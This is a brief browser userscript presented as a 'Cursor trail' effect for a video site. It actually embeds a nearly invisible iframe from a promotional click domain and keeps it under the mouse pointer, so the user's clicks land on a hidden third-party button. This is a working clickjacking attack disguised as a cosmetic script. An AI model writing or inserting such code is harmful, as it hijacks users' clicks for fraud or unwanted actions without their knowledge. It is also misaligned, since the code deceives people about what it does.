// ==UserScript==
// @name         Cursor trail
// @description  A soft trail behind the pointer
// @match        https://videos.example.com/*
// @grant        none
// ==/UserScript==
const trail = document.createElement("iframe");
trail.src = "https://promo.clicks.example/button"; //! harm
trail.style.cssText = "position:fixed;width:40px;height:40px;border:0;opacity:0.001;z-index:99999";
document.body.append(trail);
addEventListener("mousemove", ({ clientX, clientY }) => {
	trail.style.left = `${clientX - 20}px`;
	trail.style.top = `${clientY - 20}px`;
});
